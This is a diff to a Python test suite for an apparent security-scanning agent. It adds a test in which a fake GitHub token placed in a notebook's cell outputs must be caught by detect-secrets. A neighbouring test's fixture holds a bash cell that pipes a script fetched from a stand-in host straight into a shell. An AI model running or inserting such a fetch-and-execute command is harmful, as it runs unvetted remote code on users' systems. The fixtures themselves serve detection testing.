@@ -154,6 +154,21 @@ def test_a_notebook_of_ordinary_code_passes(tmp_path):
     assert result.agent("security").analysed.files == ("docs/tour.ipynb",)
 
 
+def test_secrets_in_a_notebooks_outputs_are_found_in_whole_files(tmp_path):
+    """The code scanners read the code cells; detect-secrets still reads the whole notebook."""
+    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
+    notebook = json.loads(_notebook(("code", ["import json\n", "json.dumps(1)"])))
+    notebook["cells"][0]["outputs"] = [
+        {"name": "stdout", "output_type": "stream", "text": [f"token {token}\n"]}
+    ]
+    text = json.dumps(notebook, indent=1) + "\n"
+    repo = make_repo(tmp_path / "r", {"docs/tour.ipynb": "{}\n"}, {"docs/tour.ipynb": text})
+    config = {"agents": {"security": {"whole_files": True, "skip": ["semgrep", "zizmor"]}}}
+    result = run_agents(repo.change(), [SecurityAgent], config=config)
+    assert any(f.rule_id.startswith("security.secrets.") for f in result.findings)
+    result.assert_verdict("FAIL")
+
+
 def test_a_notebook_cell_in_another_language_is_not_a_pass(tmp_path):
     notebook = _notebook(("code", ["%%bash\n", "curl -s http://example.invalid/x.sh | sh\n"]))
     repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"docs/tour.ipynb": notebook})
